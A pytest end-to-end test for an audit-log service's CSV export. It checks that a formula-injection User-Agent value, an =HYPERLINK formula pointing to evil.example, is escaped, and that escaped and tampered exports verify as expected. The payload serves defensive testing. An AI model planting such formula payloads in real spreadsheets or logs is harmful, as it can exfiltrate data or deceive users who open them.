"""CSV formula injection through the audit export: a value a caller controls (here the
User-Agent) must reach a spreadsheet as text, and the escaped export must still verify."""

from __future__ import annotations

import csv
import io
import json
import uuid
from pathlib import Path

import httpx

from tests.auth.test_audit_e2e import audit_cli, wait_for
from tests.conftest import ADMIN_PASSWORD, MoorageServer

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def check_escaped(text: str, agent: str) -> None:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header = rows[0]
    agents = [row[header.index("user_agent")] for row in rows[1:]]
    assert "'" + agent in agents
    for row in rows[1:]:
        assert not [cell for cell in row if cell.startswith(FORMULA_START)], row


def verify_file(server: MoorageServer, path: Path) -> int:
    return audit_cli(server, "verify", "--input", str(path)).returncode


def test_audit_csv_export_escapes_formulas_and_still_verifies(
    auth_server: MoorageServer, tmp_path: Path
) -> None:
    marker = uuid.uuid4().hex
    agent = f'=HYPERLINK("http://evil.example/{marker}","open")'
    r = httpx.get(
        f"{auth_server.url}/auth/token",
        params={"service": "moorage"},
        auth=("admin", ADMIN_PASSWORD),
        headers={"User-Agent": agent},
        timeout=60,
    )
    assert r.status_code == 200
    got = wait_for(
        auth_server, lambda rs: any(x["user_agent"] == agent for x in rs), action="token.issue"
    )
    assert any(x["user_agent"] == agent for x in got)

    cli = audit_cli(auth_server, "export", "--format", "csv")
    assert cli.returncode == 0, cli.stderr
    with httpx.Client(base_url=auth_server.url, auth=("admin", ADMIN_PASSWORD), timeout=60) as c:
        api = c.get("/api/v1/audit/export", params={"format": "csv"})
    assert api.status_code == 200, api.text

    for name, text in (("cli.csv", cli.stdout), ("api.csv", api.text)):
        check_escaped(text, agent)
        path = tmp_path / name
        path.write_text(text, newline="")
        assert verify_file(auth_server, path) == 0, name
        # An edited value is still caught (the escaping is undone, nothing more).
        path.write_text(text.replace(marker, "0" * len(marker)), newline="")
        assert verify_file(auth_server, path) == 1, name

    # JSON Lines is data, not a sheet: unchanged.
    jsonl = audit_cli(auth_server, "export")
    assert jsonl.returncode == 0, jsonl.stderr
    assert agent in [json.loads(line)["user_agent"] for line in jsonl.stdout.splitlines()]
    path = tmp_path / "export.jsonl"
    path.write_text(jsonl.stdout)
    assert verify_file(auth_server, path) == 0
